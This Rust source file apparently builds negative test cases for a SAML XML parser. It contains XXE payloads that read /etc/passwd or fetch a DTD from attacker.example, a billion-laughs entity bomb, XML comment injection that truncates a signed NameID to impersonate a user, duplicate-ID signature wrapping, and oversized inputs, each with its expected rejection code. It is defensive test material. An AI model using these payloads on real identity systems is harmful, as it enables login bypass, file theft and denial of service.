//! XML that wants to be more than data, or to be read in two ways.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::{Case, Kind};
use crate::toolbox::{Draft, World, replace};

const CLASS: &str = "xml";

/// Values that could be read in two ways: the signature holds, because comments are not signed.
pub(crate) fn values(world: &World) -> Vec<Case> {
    let altered = |name, from: &str, to: &str, verdict| {
        let draft = Draft::new().signed(&world.idp).after(from, to);
        Case::response(CLASS, name, &draft, verdict)
    };
    // The person is called that by an honest identity provider.
    let evil = Draft::new()
        .assertion("alice@example.com", "alice@example.com.attacker.example")
        .signed(&world.idp)
        .after("alice@example.com", "alice@example.com<!---->");
    vec![
        altered("a comment in the name", "alice@", "alice<!-- -->@", "xml_comment"),
        altered(
            "a comment before the end of the name",
            "example.com</saml:NameID>",
            "<!---->example.com</saml:NameID>",
            "xml_comment",
        ),
        altered(
            "a comment at the end of the name",
            "</saml:NameID>",
            "<!-- --></saml:NameID>",
            "xml_comment",
        ),
        Case::response(
            CLASS,
            "a comment that cuts somebody's name down to ours",
            &evil,
            "xml_comment",
        ),
        altered("a comment in a group", "users</", "us<!-- -->ers</", "xml_comment"),
        altered(
            "a comment in the audience",
            "/c1</saml:Audience>",
            "<!-- -->/c1</saml:Audience>",
            "xml_comment",
        ),
        altered(
            "a comment in the assertion's issuer",
            "<saml:Issuer>https",
            "<saml:Issuer><!-- -->https",
            "xml_comment",
        ),
        altered(
            "a comment in the means of authentication",
            "<saml:AuthnContextClassRef>",
            "<saml:AuthnContextClassRef><!-- -->",
            "xml_comment",
        ),
        altered(
            "a name in a CDATA section",
            "alice@example.com",
            "<![CDATA[alice@example.com]]>",
            "xml_cdata",
        ),
        altered(
            "a CDATA section beside the name",
            "alice@",
            "<![CDATA[mallory]]>alice@",
            "xml_cdata",
        ),
        altered("an empty CDATA section in the name", "alice@", "alice<![CDATA[]]>@", "xml_cdata"),
        altered("an instruction in the name", "alice@", "alice<?x?>@", "xml_instruction"),
        altered(
            "an instruction between elements",
            "<saml:Subject>",
            "<?php x?><saml:Subject>",
            "xml_instruction",
        ),
        altered("an unknown entity in the name", "alice@", "alice&x;@", "xml_entity"),
        altered("a zero character in the name", "alice@", "alice&#0;@", "xml_malformed"),
        altered("half a character in the name", "alice@", "alice&#xD800;@", "xml_malformed"),
        altered("a character number with a sign", "alice@", "alice&#+65;@", "xml_malformed"),
        altered("a bare ampersand in the name", "alice@", "alice&@", "xml_malformed"),
    ]
}

/// Whole documents.
pub(crate) fn documents(world: &World) -> Vec<Case> {
    let plain = Draft::new().signed(&world.idp).xml();
    let posted = |name, xml: &str, verdict| {
        Case::new(CLASS, name, Kind::Response, STANDARD.encode(xml).into_bytes(), verdict)
    };
    let raw =
        |name, bytes: Vec<u8>, verdict| Case::new(CLASS, name, Kind::Response, bytes, verdict);
    let typed = |subset: &str| format!("<!DOCTYPE r [{subset}]>{plain}");
    let altered = |from: &str, to: &str| replace(&plain, from, to);
    let mut laughs = String::from("<!ENTITY a \"ha\">");
    for (name, of) in
        ["b", "c", "d", "e", "f", "g", "h"].iter().zip(["a", "b", "c", "d", "e", "f", "g"])
    {
        laughs.push_str(&format!("<!ENTITY {name} \"{}\">", format!("&{of};").repeat(10)));
    }
    let root = "<samlp:Response ";
    let many =
        |count: usize, one: &dyn Fn(usize) -> String| (0..count).map(one).collect::<String>();
    let namespaces = many(60, &|n| format!("xmlns:n{n}=\"urn:{n}\" "));
    let nested =
        many(2, &|n| format!("<x {}>", many(60, &|m| format!("xmlns:m{n}x{m}=\"urn:{m}\" "))));
    let utf16: Vec<u8> = plain.encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        posted("a document type", &format!("<!DOCTYPE samlp:Response>{plain}"), "xml_doctype"),
        posted(
            "an external entity",
            &typed("<!ENTITY x SYSTEM \"file:///etc/passwd\">"),
            "xml_doctype",
        ),
        posted(
            "an external document type",
            &format!("<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\">{plain}"),
            "xml_doctype",
        ),
        posted(
            "a parameter entity",
            &typed("<!ENTITY % x SYSTEM \"http://attacker.example/x\"> %x;"),
            "xml_doctype",
        ),
        posted("a billion laughs", &typed(&laughs), "xml_doctype"),
        posted(
            "attributes by default",
            &typed("<!ATTLIST saml:NameID Format CDATA \"x\">"),
            "xml_doctype",
        ),
        posted("two roots", &format!("{plain}{plain}"), "xml_malformed"),
        posted("text behind the root", &format!("{plain}text"), "xml_malformed"),
        posted("text before the root", &format!("text{plain}"), "xml_malformed"),
        posted("a reference before the root", &format!("&#32;{plain}"), "xml_malformed"),
        posted("nothing but space", "  \n", "xml_malformed"),
        posted("cut off", plain.get(..plain.len() - 20).expect("a part"), "xml_malformed"),
        posted("an end without a beginning", &format!("{plain}</x>"), "xml_malformed"),
        posted(
            "an end of another name",
            &altered("</saml:Subject>", "</saml:Conditions>"),
            "xml_malformed",
        ),
        posted("an attribute twice", &altered(root, "<samlp:Response ID=\"_x\" "), "xml_malformed"),
        posted(
            "an attribute twice by two prefixes",
            &altered(
                root,
                "<samlp:Response xmlns:p=\"urn:p\" xmlns:q=\"urn:p\" p:a=\"\" q:a=\"\" ",
            ),
            "xml_malformed",
        ),
        posted(
            "a prefix that is not declared",
            &altered("<saml:Subject>", "<saml:Subject><y:x></y:x>"),
            "xml_malformed",
        ),
        posted(
            "an attribute whose prefix is not declared",
            &altered(root, "<samlp:Response y:x=\"\" "),
            "xml_malformed",
        ),
        posted(
            "the prefix xml for something else",
            &altered(root, "<samlp:Response xmlns:xml=\"urn:x\" "),
            "xml_malformed",
        ),
        posted(
            "the prefix xmlns declared",
            &altered(root, "<samlp:Response xmlns:xmlns=\"urn:x\" "),
            "xml_malformed",
        ),
        posted(
            "a prefix for nothing",
            &altered(root, "<samlp:Response xmlns:p=\"\" "),
            "xml_malformed",
        ),
        posted(
            "a name with two colons",
            &altered("<saml:Subject>", "<saml:Subject><saml:a:b></saml:a:b>"),
            "xml_malformed",
        ),
        posted(
            "a name with a quote",
            &altered("<saml:Subject>", "<saml:Subject><a\"b></a\"b>"),
            "xml_malformed",
        ),
        posted(
            "an attribute without quotes",
            &altered(root, "<samlp:Response x=y "),
            "xml_malformed",
        ),
        posted(
            "a bracket in an attribute",
            &altered(root, "<samlp:Response x=\"<\" "),
            "xml_malformed",
        ),
        posted(
            "the end of a CDATA section as text",
            &altered("<saml:Subject>", "<saml:Subject>]]>"),
            "xml_malformed",
        ),
        posted(
            "a control character",
            &altered("<saml:Subject>", "<saml:Subject>\u{1}"),
            "xml_malformed",
        ),
        posted(
            "a character that is none",
            &altered("<saml:Subject>", "<saml:Subject>\u{FFFE}"),
            "xml_malformed",
        ),
        posted(
            "a comment with two dashes",
            &altered("<saml:Subject>", "<saml:Subject><!-- -- -->"),
            "xml_malformed",
        ),
        posted(
            "a declaration in the middle",
            &altered("<saml:Subject>", "<saml:Subject><?xml version=\"1.0\"?>"),
            "xml_malformed",
        ),
        posted(
            "another version of XML",
            &format!("<?xml version=\"1.1\"?>{plain}"),
            "xml_malformed",
        ),
        posted(
            "another encoding",
            &format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{plain}"),
            "xml_encoding",
        ),
        raw(
            "bytes that are not UTF-8",
            STANDARD.encode(b"<a>\xFF</a>").into_bytes(),
            "xml_encoding",
        ),
        raw("UTF-16", STANDARD.encode(utf16).into_bytes(), "xml_malformed"),
        posted(
            "two elements with one id",
            &altered("<saml:Subject>", "<saml:Subject ID=\"_assertion\">"),
            "xml_duplicate_id",
        ),
        posted(
            "two elements with one id, spelled Id",
            &altered("<saml:Subject>", "<saml:Subject Id=\"_response\">"),
            "xml_duplicate_id",
        ),
        posted(
            "two elements with one id, as xml:id",
            &altered("<saml:Subject>", "<saml:Subject xml:id=\"_response\">"),
            "xml_duplicate_id",
        ),
        posted(
            "nested a thousand times",
            &altered(
                "<saml:Subject>",
                &format!("{}{}<saml:Subject>", "<x>".repeat(1000), "</x>".repeat(1000)),
            ),
            "xml_too_deep",
        ),
        posted(
            "thirty thousand elements",
            &altered("<saml:Subject>", &format!("{}<saml:Subject>", "<x/>".repeat(30_000))),
            "xml_too_many_elements",
        ),
        posted(
            "a thousand attributes",
            &altered(root, &format!("{root}{}", many(1000, &|n| format!("a{n}=\"\" ")))),
            "xml_too_many_attributes",
        ),
        posted(
            "a hundred namespaces",
            &altered(
                root,
                &format!("{root}{namespaces}{}", many(60, &|n| format!("xmlns:o{n}=\"urn:{n}\" "))),
            ),
            "xml_too_many_attributes",
        ),
        posted(
            "a hundred namespaces, nested",
            &altered("<saml:Subject>", &format!("{nested}</x></x><saml:Subject>")),
            "xml_too_many_attributes",
        ),
        posted(
            "a name of a thousand letters",
            &altered("<saml:Subject>", &format!("<{0}></{0}><saml:Subject>", "x".repeat(1000))),
            "xml_malformed",
        ),
        raw("larger than is read", vec![b'A'; 256 * 1024 + 1], "too_large"),
        raw("a mebibyte", vec![b'A'; 1024 * 1024], "too_large"),
        raw("not base64", b"<samlp:Response/>".to_vec(), "not_base64"),
        raw("nothing", Vec::new(), "xml_malformed"),
        raw("zeros", STANDARD.encode([0; 100]).into_bytes(), "xml_malformed"),
    ]
}
